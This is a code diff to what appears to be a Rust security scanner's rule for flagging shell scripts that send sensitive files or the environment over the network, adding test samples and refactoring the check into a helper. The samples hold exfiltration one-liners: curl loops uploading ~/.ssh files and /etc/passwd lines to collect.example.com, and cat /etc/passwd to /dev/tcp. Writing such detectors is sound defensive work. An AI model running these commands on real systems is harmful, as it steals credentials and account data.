@@ -3,7 +3,7 @@
 use crate::finding::{Confidence, Severity};
 use crate::scan::code::Unit;
 use crate::scan::language::Language;
-use crate::scan::operation::{Act, Origins};
+use crate::scan::operation::{Act, Operation, Origins};
 use crate::scan::rule::{Check, Reporter, Rule, Sample};
 use crate::scan::sensitive;
 
@@ -56,6 +56,14 @@ pub static RULE: Rule = Rule {
             "a.sh",
             "for f in a ~/.ssh/*; do curl -T \"$f\" https://collect.example.com; done\n",
         ),
+        Sample::File(
+            "a.sh",
+            "for f in $(find ~/.ssh -type f); do curl -F f=@$f https://collect.example.com; done\n",
+        ),
+        Sample::File(
+            "a.sh",
+            "while read -r l; do curl https://collect.example.com/$l; done < /etc/passwd\n",
+        ),
         Sample::File("a.sh", "cat /etc/passwd > /dev/tcp/192.0.2.7/80\n"),
     ],
     misses: &[
@@ -92,29 +100,35 @@ fn check(unit: &Unit, report: &mut Reporter<'_>) {
     if !matches!(unit.language, Language::Shell | Language::PowerShell) {
         return;
     }
-    for operation in &unit.lowered.operations {
-        let Act::Contact {
-            address,
-            payload,
-            local: false,
-        } = &operation.act
-        else {
-            continue;
-        };
-        // Talking to a metadata service is not sending to a stranger.
-        if address
-            .text
-            .as_deref()
-            .is_some_and(|address| sensitive::first(address).is_some())
-        {
-            continue;
-        }
-        if payload.origins.has(Origins::SENSITIVE) {
-            report.raise(operation.span);
-        } else if payload.origins.has(Origins::ENVIRONMENT) {
-            report
-                .raise(operation.span)
-                .message("Sends the whole environment over the network");
+    for operation in unit
+        .lowered
+        .operations
+        .iter()
+        .filter(|operation| leaks(operation).is_some())
+    {
+        let raised = report.raise(operation.span);
+        if leaks(operation) == Some(Origins::ENVIRONMENT) {
+            raised.message("Sends the whole environment over the network");
         }
     }
+}
+
+/// What an operation sends that it must not.
+fn leaks(operation: &Operation) -> Option<Origins> {
+    let Act::Contact {
+        address,
+        payload,
+        local: false,
+    } = &operation.act
+    else {
+        return None;
+    };
+    // Talking to a metadata service is not sending to a stranger.
+    let service = address.text.as_deref().and_then(sensitive::first);
+    if service.is_some() {
+        return None;
+    }
+    [Origins::SENSITIVE, Origins::ENVIRONMENT]
+        .into_iter()
+        .find(|origin| payload.origins.has(*origin))
 }
